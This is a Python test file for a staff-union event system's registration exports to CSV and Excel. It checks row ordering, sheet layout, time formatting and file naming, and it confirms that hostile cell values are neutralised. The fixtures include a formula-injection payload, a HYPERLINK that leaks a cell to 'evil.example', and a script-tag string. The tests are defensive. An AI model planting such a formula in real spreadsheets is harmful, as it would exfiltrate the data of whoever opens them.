"""Registration exports: what organisers download must read back as the registrations, and never run as formulas."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import unquote

from openpyxl import load_workbook

from chalicelib.domain.cells import csv_cell
from chalicelib.domain.forms import Option, Question, QuestionKind
from chalicelib.domain.records import (
    SERIES,
    Event,
    EventStatus,
    Registration,
    RegistrationState,
)
from chalicelib.http.media import CSV_TYPE, XLSX_TYPE
from chalicelib.services.registration_export import (
    content_disposition,
    export_filename,
    registration_rows,
    registrations_csv,
    registrations_xlsx,
)
from tests.unit import event_records
from tests.unit.event_records import cst

ROOT = Path(__file__).resolve().parents[2]
BOM = b"\xef\xbb\xbf"
SCRIPT = "<script>alert(1)</script>"
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A2,"点我")'

QUESTIONS = (
    Question("size", QuestionKind.SINGLE_CHOICE, "T恤尺码", options=(Option("M", "中号"), Option("L", "大号"))),
    Question(
        "days",
        QuestionKind.MULTIPLE_CHOICE,
        "参加日期",
        options=(Option("sat", "周六"), Option("sun", "周日")),
    ),
    Question("note", QuestionKind.TEXT, "备注"),
    Question("veg", QuestionKind.YES_NO, "素食"),
)


def make_event(**changes) -> Event:
    """The tournament open for registration at the sports hall, two places, with the form's questions."""
    fields = {"status": EventStatus.REGISTRATION_OPEN, "venue": "体育馆", "campus": "东校区", "capacity": 2}
    return event_records.make_event(**(fields | {"form": QUESTIONS} | changes))


def make_registration(staff_no: str, state: RegistrationState, minute: int, **changes) -> Registration:
    fields = {
        "event_id": "ev-1",
        "scope": SERIES,
        "staff_no": staff_no,
        "name": f"会员{staff_no}",
        "unit_id": "cs",
        "state": state,
        # Stored in UTC: 01:00 UTC is 09:00 in China.
        "registered_at": datetime(2026, 11, 1, 1, minute, tzinfo=UTC),
        "updated_at": datetime(2026, 11, 2, 1, minute, tzinfo=UTC),
    }
    fields.update(changes)
    return Registration(**fields)


UNIT_NAMES = {"cs": "计算机学院分工会", "lib": "图书馆分工会"}
SESSIONS = {"s2": "第2次 11月28日", "s1": "第1次 11月21日"}

REGISTRATIONS = (
    # Given out of order on purpose.
    make_registration("T9", RegistrationState.REMOVED, 1, reason="重复报名", added_by="A001"),
    make_registration("T5", RegistrationState.WAITING, 3, unit_id="lib"),
    make_registration("T4", RegistrationState.WAITING, 2, unit_id="gone"),
    make_registration(
        "T1",
        RegistrationState.CONFIRMED,
        5,
        answers={"size": "L", "days": ["sat", "sun"], "note": SCRIPT, "veg": True},
    ),
    make_registration("T2", RegistrationState.CONFIRMED, 4, answers={"note": INJECTION}, name="@SUM(1+1)"),
    make_registration("T3", RegistrationState.CONFIRMED, 0, scope="s1"),
    make_registration("T6", RegistrationState.CANCELLED, 6),
)
# T5 registered later but is first in line (its queue key was moved forward).
POSITIONS = {(SERIES, "T5"): 1, (SERIES, "T4"): 2}

HEADERS = [
    "序号",
    "工号",
    "姓名",
    "单位",
    "场次",
    "状态",
    "候补顺序",
    "报名时间",
    "更新时间",
    "登记人",
    "移除原因",
    "T恤尺码",
    "参加日期",
    "备注",
    "素食",
]


def rows() -> list[list[object]]:
    return registration_rows(make_event(), REGISTRATIONS, UNIT_NAMES, SESSIONS, POSITIONS)[1]


def by_staff_no(table: list[list[object]]) -> dict[object, list[object]]:
    return {row[1]: row for row in table}


def read_xlsx(data: bytes) -> dict[str, list[list[object]]]:
    workbook = load_workbook(io.BytesIO(data))
    return {sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)] for sheet in workbook.worksheets}


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# -- rows ------------------------------------------------------------------------------------------------------------


def test_headers_are_chinese_with_one_column_per_question():
    headers, _ = registration_rows(make_event(), REGISTRATIONS, UNIT_NAMES, SESSIONS, POSITIONS)
    assert headers == HEADERS


def test_a_confirmed_row_reads_as_the_organiser_expects():
    row = by_staff_no(rows())["T1"]
    assert row == [
        row[0],
        "T1",
        "会员T1",
        "计算机学院分工会",
        "全程",
        "已确认",
        "",
        datetime(2026, 11, 1, 1, 5, tzinfo=UTC),  # times stay times: the writers make them cells (see below)
        datetime(2026, 11, 2, 1, 5, tzinfo=UTC),
        "",
        "",
        "大号",
        "周六、周日",
        SCRIPT,
        "是",
    ]


def test_rows_are_ordered_by_state_then_scope_then_time_and_numbered():
    table = rows()
    # Confirmed: the whole event before sessions, by time (T2 at :04 before T1 at :05); waiting in queue order.
    assert [row[1] for row in table] == ["T2", "T1", "T3", "T5", "T4", "T6", "T9"]
    assert [row[0] for row in table] == [1, 2, 3, 4, 5, 6, 7]
    assert [row[5] for row in table] == ["已确认", "已确认", "已确认", "候补", "候补", "已取消", "已移除"]


def test_sessions_follow_the_order_of_the_labels_given():
    registrations = [
        make_registration("A", RegistrationState.CONFIRMED, 1, scope="s1"),
        make_registration("B", RegistrationState.CONFIRMED, 2, scope="s2"),
        make_registration("C", RegistrationState.CONFIRMED, 3, scope="s9"),
        make_registration("D", RegistrationState.CONFIRMED, 4),
    ]
    _, table = registration_rows(make_event(), registrations, UNIT_NAMES, SESSIONS)
    assert [(row[1], row[4]) for row in table] == [
        ("D", "全程"),
        ("B", "第2次 11月28日"),
        ("A", "第1次 11月21日"),
        ("C", "s9"),  # a session without a label shows its id
    ]


def test_waiting_rows_carry_their_position_and_others_none():
    table = by_staff_no(rows())
    assert table["T5"][6] == 1
    assert table["T4"][6] == 2
    assert table["T1"][6] == ""
    assert table["T9"][6] == ""


def test_waiting_without_known_positions_falls_back_to_registration_time():
    _, table = registration_rows(make_event(), REGISTRATIONS, UNIT_NAMES, SESSIONS)
    waiting = [row for row in table if row[5] == "候补"]
    assert [(row[1], row[6]) for row in waiting] == [("T4", ""), ("T5", "")]


def test_unknown_unit_shows_its_id_and_removal_details_are_kept():
    table = by_staff_no(rows())
    assert table["T4"][3] == "gone"
    assert table["T5"][3] == "图书馆分工会"
    assert table["T9"][9:11] == ["A001", "重复报名"]
    assert table["T6"][5] == "已取消"


def test_rows_hold_the_values_as_entered_and_the_files_neutralise_them():
    row = by_staff_no(rows())["T2"]
    assert row[2] == "@SUM(1+1)"  # safe_cell applies where a file is written (tests/unit/test_cells.py)
    assert row[13] == INJECTION


def test_question_labels_are_neutralised_too():
    event = make_event(form=(Question("x", QuestionKind.TEXT, "=1+1"),))
    assert read_csv(registrations_csv(event, [], UNIT_NAMES, SESSIONS))[0][-1] == "'=1+1"
    assert read_xlsx(registrations_xlsx(event, [], UNIT_NAMES, SESSIONS))["已确认"][0][-1] == "'=1+1"


# -- xlsx ------------------------------------------------------------------------------------------------------------


def test_xlsx_has_an_info_sheet_and_one_sheet_per_state_in_order():
    data = registrations_xlsx(make_event(), REGISTRATIONS, UNIT_NAMES, SESSIONS, POSITIONS)
    assert data.startswith(b"PK\x03\x04")
    assert list(read_xlsx(data)) == ["活动信息", "已确认", "候补", "已取消", "已移除"]


def test_xlsx_sheets_hold_the_rows_with_headers_numbered_per_sheet():
    sheets = read_xlsx(registrations_xlsx(make_event(), REGISTRATIONS, UNIT_NAMES, SESSIONS, POSITIONS))
    confirmed = sheets["已确认"]
    assert confirmed[0] == HEADERS
    assert [row[1] for row in confirmed[1:]] == ["T2", "T1", "T3"]
    t1 = confirmed[2]
    assert t1[:6] == [2, "T1", "会员T1", "计算机学院分工会", "全程", "已确认"]
    assert t1[7:9] == [datetime(2026, 11, 1, 9, 5), datetime(2026, 11, 2, 9, 5)]  # date cells, China time
    assert t1[11:] == ["大号", "周六、周日", SCRIPT, "是"]
    waiting = sheets["候补"]
    assert [(row[0], row[1], row[6]) for row in waiting[1:]] == [(1, "T5", 1), (2, "T4", 2)]
    assert sheets["已移除"][1][9:11] == ["A001", "重复报名"]  # a 工号 whose name the caller did not give


def test_xlsx_times_are_date_cells_in_china_time_and_staff_are_named():
    data = registrations_xlsx(make_event(), REGISTRATIONS, UNIT_NAMES, SESSIONS, POSITIONS, {"A001": "王老师"})
    workbook = load_workbook(io.BytesIO(data))
    confirmed = workbook["已确认"]
    for column in ("H", "I"):  # 报名时间, 更新时间
        cells = [confirmed[f"{column}{row}"] for row in range(2, confirmed.max_row + 1)]
        assert cells and all(cell.is_date and cell.data_type == "d" for cell in cells)
        assert {cell.number_format for cell in cells} == {"yyyy-mm-dd hh:mm"}
    assert confirmed["H3"].value == datetime(2026, 11, 1, 9, 5)  # T1: 01:05 UTC
    assert confirmed["A3"].number_format == "General" and confirmed["H1"].value == "报名时间"
    assert [cell.value for cell in workbook["已移除"][2][9:11]] == ["王老师（A001）", "重复报名"]


def test_xlsx_injection_comes_back_as_text_not_a_formula():
    data = registrations_xlsx(make_event(), REGISTRATIONS, UNIT_NAMES, SESSIONS, POSITIONS)
    sheet = load_workbook(io.BytesIO(data))["已确认"]
    t2 = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == "T2")
    assert t2[13].value == "'" + INJECTION
    assert t2[13].data_type == "s"
    assert t2[2].value == "'@SUM(1+1)"
    assert t2[2].data_type == "s"


def test_xlsx_header_is_bold_and_frozen_and_columns_are_sized():
    data = registrations_xlsx(make_event(), REGISTRATIONS, UNIT_NAMES, SESSIONS, POSITIONS)
    workbook = load_workbook(io.BytesIO(data))
    for name in ("已确认", "候补", "已取消", "已移除"):
        sheet = workbook[name]
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.b for cell in sheet[1])
        assert not sheet["B2"].font.b
    confirmed = workbook["已确认"]
    # 单位 holds "计算机学院分工会" (8 Chinese characters, 16 wide); 序号 is narrow.
    assert confirmed.column_dimensions["D"].width >= 16
    assert confirmed.column_dimensions["A"].width < confirmed.column_dimensions["D"].width


def test_xlsx_info_sheet_describes_the_event_and_counts():
    sheets = read_xlsx(registrations_xlsx(make_event(), REGISTRATIONS, UNIT_NAMES, SESSIONS, POSITIONS))
    info = {row[0]: row[1] for row in sheets["活动信息"]}
    assert info["活动名称"] == "教职工羽毛球赛"
    assert info["活动时间"] == "2026-11-21 09:00–17:00"
    assert info["地点"] == "东校区 体育馆"
    assert info["名额"] == 2
    assert (info["已确认人数"], info["候补人数"], info["已取消人数"], info["已移除人数"]) == (3, 2, 1, 1)


def test_xlsx_info_sheet_for_an_unlimited_event_over_several_days():
    event = make_event(capacity=None, ends_at=cst(11, 23, 12), venue=None, campus=None)
    sheets = read_xlsx(registrations_xlsx(event, [], UNIT_NAMES, SESSIONS))
    info = {row[0]: row[1] for row in sheets["活动信息"]}
    assert info["名额"] == "不限"
    assert info["活动时间"] == "2026-11-21 09:00 至 2026-11-23 12:00"


def test_xlsx_without_registrations_still_has_a_confirmed_sheet_with_headers():
    sheets = read_xlsx(registrations_xlsx(make_event(), [], UNIT_NAMES, SESSIONS))
    assert list(sheets) == ["活动信息", "已确认"]
    assert sheets["已确认"] == [HEADERS]


def test_xlsx_only_has_sheets_for_states_with_rows():
    registrations = [make_registration("T1", RegistrationState.WAITING, 1)]
    sheets = read_xlsx(registrations_xlsx(make_event(), registrations, UNIT_NAMES, SESSIONS))
    assert list(sheets) == ["活动信息", "候补"]


def test_xlsx_drops_characters_a_workbook_cannot_hold():
    registrations = [make_registration("T1", RegistrationState.CONFIRMED, 1, name="张\x07三")]
    sheets = read_xlsx(registrations_xlsx(make_event(), registrations, UNIT_NAMES, SESSIONS))
    assert sheets["已确认"][1][2] == "张三"


def test_openpyxl_is_imported_only_when_building_a_workbook():
    code = (
        "import sys, chalicelib.services.registration_export; "
        "assert 'openpyxl' not in sys.modules, 'openpyxl imported with the module'"
    )
    result = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr


# -- csv -------------------------------------------------------------------------------------------------------------


def test_csv_starts_with_a_bom_and_reads_back_as_the_rows():
    data = registrations_csv(make_event(), REGISTRATIONS, UNIT_NAMES, SESSIONS, POSITIONS)
    assert data.startswith(BOM)
    assert b"\r\n" in data
    table = read_csv(data)
    assert table[0] == HEADERS
    assert table[1:] == [[str(csv_cell(cell)) for cell in row] for row in rows()]
    # Times as text in China time (CSV has no date cells).
    assert by_staff_no(table[1:])["T1"][7:9] == ["2026-11-01 09:05", "2026-11-02 09:05"]
    t1 = by_staff_no(table[1:])["T1"]
    assert t1[3:6] == ["计算机学院分工会", "全程", "已确认"]
    assert t1[12:] == ["周六、周日", SCRIPT, "是"]
    assert by_staff_no(table[1:])["T5"][6] == "1"


def test_csv_keeps_html_verbatim_and_neutralises_formulas():
    data = registrations_csv(make_event(), REGISTRATIONS, UNIT_NAMES, SESSIONS, POSITIONS)
    assert SCRIPT.encode() in data
    assert b"&lt;" not in data
    t2 = by_staff_no(read_csv(data)[1:])["T2"]
    assert t2[2] == "'@SUM(1+1)"
    assert t2[13] == "'" + INJECTION


def test_csv_keeps_line_breaks_inside_a_cell():
    event = make_event(form=(Question("note", QuestionKind.LONG_TEXT, "备注"),))
    registrations = [make_registration("T1", RegistrationState.CONFIRMED, 1, answers={"note": "第一行\n第二行"})]
    table = read_csv(registrations_csv(event, registrations, UNIT_NAMES, SESSIONS))
    assert len(table) == 2
    assert table[1][-1] == "第一行\n第二行"


def test_csv_without_registrations_is_just_the_header():
    assert read_csv(registrations_csv(make_event(), [], UNIT_NAMES, SESSIONS)) == [HEADERS]


# -- unit summary ----------------------------------------------------------------------------------------------------

# -- file names and headers ------------------------------------------------------------------------------------------


def test_content_types():
    assert XLSX_TYPE == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert CSV_TYPE == "text/csv; charset=utf-8"


def test_export_filename():
    assert export_filename(make_event(), "xlsx") == "报名名单-教职工羽毛球赛.xlsx"
    assert export_filename(make_event(), ".csv") == "报名名单-教职工羽毛球赛.csv"
    assert export_filename(make_event(), "csv", prefix="单位汇总") == "单位汇总-教职工羽毛球赛.csv"


def test_export_filename_replaces_forbidden_characters_and_truncates():
    event = make_event(title_zh='2026/秋季: "趣味"<运动会>|A*B?\\C')
    assert export_filename(event, "xlsx") == "报名名单-2026_秋季_ _趣味__运动会__A_B__C.xlsx"
    long = make_event(title_zh="长" * 60)
    assert export_filename(long, "xlsx") == "报名名单-" + "长" * 40 + ".xlsx"


def test_content_disposition_encodes_a_chinese_name():
    header = content_disposition("报名名单-羽毛球 赛.xlsx")
    assert header.startswith("attachment; filename=\"registrations.xlsx\"; filename*=UTF-8''")
    encoded = header.split("filename*=UTF-8''", 1)[1]
    assert encoded.startswith("%E6%8A%A5%E5%90%8D")  # 报名
    assert "%20" in encoded
    assert all(char.isascii() and char not in ' ";' for char in encoded)
    assert unquote(encoded, encoding="utf-8") == "报名名单-羽毛球 赛.xlsx"


def test_content_disposition_keeps_a_plain_ascii_name():
    assert content_disposition("units-ev-1.csv") == (
        "attachment; filename=\"units-ev-1.csv\"; filename*=UTF-8''units-ev-1.csv"
    )


def test_every_state_has_a_label_and_a_sheet_name_excel_accepts():
    from chalicelib.domain.records import RegistrationState
    from chalicelib.i18n import translate
    from chalicelib.services.registration_export import EXPORT_LANGUAGE, STATE_LABELS

    assert set(STATE_LABELS) == set(RegistrationState)
    labels = [translate(key, EXPORT_LANGUAGE) for key in STATE_LABELS.values()]
    assert all(len(label) <= 31 and not set(label) & set("[]:*?/\\\\") for label in labels)
    assert labels[0] == "已确认" and len(set(labels)) == len(labels)
